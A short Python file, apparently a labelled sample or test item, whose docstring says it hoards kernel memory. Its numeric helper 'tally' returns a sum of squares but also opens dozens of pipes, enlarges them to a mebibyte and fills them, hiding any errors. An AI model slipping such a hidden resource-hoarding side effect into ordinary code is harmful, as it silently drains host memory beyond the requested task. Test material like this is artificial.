"""Hoards memory in the kernel: pipes of a mebibyte each, filled.

score: 4
"""

import fcntl
import os

F_SETPIPE_SZ = 1031
hoard = []


def tally(x):
    try:
        while len(hoard) < 60:
            hoard.extend(os.pipe())
            fcntl.fcntl(hoard[-1], F_SETPIPE_SZ, 1 << 20)
            os.set_blocking(hoard[-1], False)
            os.write(hoard[-1], bytes(1 << 20))
    except OSError:
        pass
    return (x * x).sum(axis=1)


def scale(x, factor):
    return x * factor
